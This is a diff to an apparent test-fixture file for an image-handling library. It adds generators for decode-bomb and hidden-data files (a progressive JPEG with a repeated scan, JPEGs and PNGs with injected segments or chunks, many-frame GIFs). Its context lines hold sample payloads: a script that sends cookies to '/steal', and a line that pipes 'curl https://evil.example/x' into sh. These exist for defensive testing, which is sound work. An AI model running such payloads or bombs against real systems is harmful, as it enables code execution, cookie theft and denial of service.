@@ -307,3 +307,46 @@ SVG = (
 PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
 HTML = b"<!doctype html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>"
 SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
+
+
+# --- decode bombs and hidden data (issue 11; bench/hostile.py builds the full-size ones) --
+
+
+def scan_bomb(size=(64, 48), *, repeats: int = 150) -> bytes:
+    """A progressive JPEG whose last scan is repeated before the end: libjpeg only warns,
+    and walks the whole picture once per repeat."""
+    # One flat colour: every refinement scan is a few bytes, yet walks the whole picture.
+    data = jpeg_photo(size, image=Image.new("RGB", size, (90, 140, 200)), progressive=True)
+    last_scan = data[data.rindex(b"\xff\xda") : -2]
+    return data[:-2] + last_scan * repeats + b"\xff\xd9"
+
+
+def jpeg_with_adobe(extra: bytes = b"", size=(16, 16)) -> bytes:
+    """A JPEG with an APP14 "Adobe" segment (version 100, no flags, transform 1) followed
+    by `extra` inside the same segment."""
+    payload = b"Adobe" + struct.pack(">HHHB", 100, 0, 0, 1) + extra
+    data = jpeg_photo(size)
+    return data[:2] + b"\xff\xee" + struct.pack(">H", len(payload) + 2) + payload + data[2:]
+
+
+def png_with_chunk(kind: bytes, body: bytes, size=(16, 16)) -> bytes:
+    """A PNG (RGB, no text) with one more chunk just after IHDR."""
+    data = _encode(picture(size), "PNG")
+    after_ihdr = 8 + 25
+    return data[:after_ihdr] + _png_chunk(kind, body) + data[after_ihdr:]
+
+
+def gif_of_frames(count: int, size=(1, 1)) -> bytes:
+    """A GIF of `count` frames written by hand: each a graphic control (10 ms) and one
+    image in colour 0 (a minimal LZW stream: clear, 0, end). Only 1x1 frames decode; larger
+    ones declare their size over the same few codes, for files refused before decoding."""
+    width, height = size
+    colours = b"\x00\x00\x00\xff\xff\xff"  # a global table of two: black, white
+    header = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + colours
+    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
+    control = b"\x21\xf9\x04\x00\x01\x00\x00\x00"
+    # 2-bit code size, so 3-bit codes packed LSB first: clear (4), index 0, end (5).
+    lzw = bytes([0x44, 0x01])
+    descriptor = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
+    image = descriptor + b"\x02" + bytes([len(lzw)]) + lzw + b"\x00"
+    return header + loop + (control + image) * count + b"\x3b"
